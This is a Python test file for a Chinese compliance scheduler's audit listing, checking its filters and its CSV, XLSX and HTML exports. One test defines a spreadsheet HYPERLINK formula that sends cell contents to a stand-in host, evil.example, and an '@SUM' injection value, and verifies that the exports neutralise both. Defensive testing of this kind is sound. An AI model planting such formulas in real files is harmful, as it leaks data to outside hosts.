"""The audit listing (台账): rows, filters, evidence, and its CSV, XLSX and HTML files."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, event

from scheduler.audit import export as audit_export
from scheduler.audit import listing as audit
from scheduler.audit import xlsx as audit_xlsx
from scheduler.audit.listing import AuditQuery
from scheduler.core.compliance import Status
from scheduler.core.rules import RuleBook
from scheduler.store.database import transaction
from scheduler.store.trail import Change
from tests.conftest import EVENT_HEADER, ROOT, HuiqiRunner, write_csv
from tests.countyfacts import SHANGHAI, load_county

AS_OF = date(2021, 6, 30)
NOW = datetime(2021, 7, 1, 9, 0, tzinfo=SHANGHAI)
EVENTS = [
    ("101", "hearing", "2021-02-10", "10:00", "党委听取妇联工作汇报", "", "", "h1"),
    ("101", "hearing;study", "2021-03-15", "", "党委会<b>", "", "", "h2"),
]


@pytest.fixture
def county_db(engine: Engine, book: RuleBook) -> Engine:
    load_county(engine, book, EVENTS)
    return engine


def listing_of(engine: Engine, book: RuleBook, **filters: object) -> audit.AuditListing:
    with transaction(engine) as session:
        return audit.audit_listing(session, book, AuditQuery.for_year(2021, AS_OF, **filters))  # type: ignore[arg-type]


def hearing_rows(listing: audit.AuditListing, unit: str) -> list[audit.AuditRow]:
    return [r for r in listing.rows if r.rule.id == "township-hearing" and r.unit.code == unit]


def test_a_met_hearing_lists_its_event_with_who_recorded_it_and_when(
    county_db: Engine, book: RuleBook
) -> None:
    rows = hearing_rows(listing_of(county_db, book), "101")
    first = rows[0]
    assert first.obligation.period.label == "2021-B1"
    assert first.status is Status.MET
    (evidence,) = first.evidence
    assert (evidence.day, evidence.title, evidence.recorded_by) == (
        date(2021, 2, 10),
        "党委听取妇联工作汇报",
        "刘主席",
    )
    recorded = audit_export.local_time(evidence.recorded_at, SHANGHAI)
    assert recorded.replace(tzinfo=None) == datetime(2021, 3, 1, 10, 30)


def test_filters_narrow_the_listing_to_a_subtree_a_rule_and_a_status(
    county_db: Engine, book: RuleBook
) -> None:
    listing = listing_of(county_db, book, unit="101", rule="township-hearing", status=Status.OPEN)
    assert {row.unit.code for row in listing.rows} == {"101"}
    assert [row.obligation.period.label for row in listing.rows] == ["2021-B3"]
    subtree = listing_of(county_db, book, unit="101")
    assert {row.unit.code for row in subtree.rows} == {"101", "10101"}


def test_a_period_filter_lists_the_obligations_overlapping_it(
    county_db: Engine, book: RuleBook
) -> None:
    query = AuditQuery.for_period("2021-Q1", AS_OF, unit="101", rule="township-hearing")
    with transaction(county_db) as session:
        listing = audit.audit_listing(session, book, query)
    assert [row.obligation.period.label for row in listing.rows] == ["2021-B1", "2021-B2"]


def statements_of_a_listing(engine: Engine, book: RuleBook) -> int:
    statements: list[str] = []

    def count(*args: object) -> None:
        statements.append(str(args[2]))

    event.listen(engine, "before_cursor_execute", count)
    try:
        listing_of(engine, book)
    finally:
        event.remove(engine, "before_cursor_execute", count)
    return len(statements)


def test_the_listing_costs_a_fixed_number_of_statements(county_db: Engine, book: RuleBook) -> None:
    small = statements_of_a_listing(county_db, book)
    more = [
        ("102", "hearing", f"2021-0{1 + i % 5}-1{i % 9}", "", f"t{i}", "", "", f"r{i}")
        for i in range(30)
    ]
    load_county(county_db, book, more, units=[("10201", "西河村", "village", "102", "", "", "")])
    assert statements_of_a_listing(county_db, book) == small


def test_csv_has_chinese_headers_iso_dates_and_a_bom(county_db: Engine, book: RuleBook) -> None:
    data = audit_export.to_csv(listing_of(county_db, book, unit="101"), "zh", SHANGHAI)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["单位代码", "单位", "规则"]
    hearing = next(r for r in rows if r[2] == "township-hearing" and r[5] == "2021-B1")
    assert hearing[9] == "✔ 按时完成"
    assert hearing[13:17] == ["2021-02-10", "党委听取妇联工作汇报", "刘主席", "2021-03-01 10:30"]


def test_xlsx_has_a_summary_and_a_sheet_per_rule_ready_to_print(
    county_db: Engine, book: RuleBook
) -> None:
    listing = listing_of(county_db, book)
    trail = [Change(NOW, "admin", "waive", "102", "township-hearing 2021-B1", "", "换届")]
    workbook = load_workbook(io.BytesIO(audit_xlsx.to_xlsx(listing, "zh", SHANGHAI, NOW, trail)))
    assert workbook.sheetnames[0] == "汇总"
    assert "township-hearing" in workbook.sheetnames
    assert workbook.sheetnames[-1] == "变更记录"
    sheet = workbook["township-hearing"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "单位代码" and sheet["A1"].font.bold
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.column_dimensions["K"].width == 30
    assert sheet["F2"].value == datetime(2021, 2, 28)
    assert sheet["F2"].number_format == audit_xlsx.ZH_DATE
    assert sheet["G2"].value == "✔ 按时完成"
    assert sheet["G2"].fill.fgColor.rgb == "FF" + audit_xlsx.STATUS_FILLS[Status.MET]
    assert sheet["K2"].alignment.wrap_text and sheet["K2"].alignment.vertical == "top"
    assert sheet["F2"].alignment.vertical == "top" and sheet["F2"].fill.fill_type is None
    assert workbook["变更记录"]["G2"].value == "换届"
    assert workbook["变更记录"]["A2"].value == datetime(2021, 7, 1, 9, 0)


def test_the_summary_sheets_rule_table_has_the_frozen_bold_header_printed_on_each_page(
    county_db: Engine, book: RuleBook
) -> None:
    listing = listing_of(county_db, book)
    summary = load_workbook(io.BytesIO(audit_xlsx.to_xlsx(listing, "zh", SHANGHAI, NOW)))["汇总"]
    header = next(row for row in summary.iter_rows() if row[1].value == "规则名称")
    number = header[0].row
    assert [cell.value for cell in header[:3]] == ["规则", "规则名称", "依据条款"]
    assert all(cell.font.bold and cell.fill.fgColor.rgb == "FFDDE4EE" for cell in header)
    assert (
        summary.freeze_panes == f"A{number + 1}"
        and summary.print_title_rows == f"${number}:${number}"
    )
    assert summary.cell(number + 1, 1).value == listing.rules[0].id


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def test_no_export_writes_a_formula_and_text_reads_as_typed(engine: Engine, book: RuleBook) -> None:
    units = [("10102", EVIL, "village", "101", "2000-01-01", "", "")]
    events = [("101", "hearing", "2021-02-10", "", "@SUM(1+1)", "", "", "e1")]
    load_county(engine, book, events, units=units)
    listing = listing_of(engine, book, unit="101")
    workbook = load_workbook(io.BytesIO(audit_xlsx.to_xlsx(listing, "zh", SHANGHAI, NOW)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert EVIL in {cell.value for cell in cells}
    assert any(cell.value == 1 for cell in cells if cell.data_type == "n")  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(audit_export.to_csv(listing, "zh", SHANGHAI).decode())))
    texts = {cell for row in rows for cell in row}
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts
    assert not [cell for cell in texts if cell.startswith(("=", "+", "@"))]


def test_html_is_print_ready_and_escapes_what_people_typed(
    county_db: Engine, book: RuleBook
) -> None:
    listing = listing_of(county_db, book, unit="101")
    context = audit_export.HtmlContext(
        "zh", SHANGHAI, NOW, audit_export.filters_text(listing, "zh")
    )
    page = audit_export.to_html(listing, ROOT / "templates", context).decode()
    assert "@page { size: A4 landscape" in page
    assert "2021年2月28日" in page
    assert "党委会&lt;b&gt;" in page and "党委会<b>" not in page
    english = audit_export.HtmlContext(
        "en", SHANGHAI, NOW, audit_export.filters_text(listing, "en")
    )
    assert "28 Feb 2021" in audit_export.to_html(listing, ROOT / "templates", english).decode()


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_huiqi_audit_writes_the_three_files_and_refuses_bad_filters(
    county: HuiqiRunner, tmp_path: Path
) -> None:
    events = write_csv(
        tmp_path / "events.csv",
        EVENT_HEADER,
        [("101", "hearing", "2021-02-10", "", "汇报", "", "", "")],
    )
    county("events", "import", str(events))
    for fmt in ("csv", "xlsx", "html"):
        out = tmp_path / f"listing.{fmt}"
        done = county(
            "audit", "--year", "2021", "--as-of", "2021-06-30", "--format", fmt, "-o", str(out)
        )
        assert out.stat().st_size > 0 and re.fullmatch(
            f"{re.escape(str(out))}：\\d+ 项义务\n", done.stdout
        )
    out = tmp_path / "english.csv"
    english = county(
        "--lang", "en", "audit", "--year", "2021", "--as-of", "2021-06-30", "--format", "csv",
        "-o", str(out),
    )  # fmt: skip
    assert re.fullmatch(f"{re.escape(str(out))}: \\d+ obligations\n", english.stdout)
    bad = county(
        "--lang",
        "en",
        "audit",
        "--year",
        "2021",
        "--status",
        "late",
        "--format",
        "csv",
        "-o",
        str(tmp_path / "bad.csv"),
        check=False,
    )
    assert bad.returncode == 1
    assert bad.stderr.strip() == (
        "--status: unknown status 'late' (one of upcoming, open, met, "
        "met_late, overdue, missed, exempt)"
    )
    chinese = county(
        "audit",
        "--year",
        "2021",
        "--status",
        "late",
        "--format",
        "csv",
        "-o",
        str(tmp_path / "bad.csv"),
        check=False,
    )
    assert chinese.stderr.strip() == (
        "--status：没有这个状态“late”（可选：upcoming、open、met、met_late、overdue、missed、exempt）"
    )
    assert not (tmp_path / "bad.csv").exists()
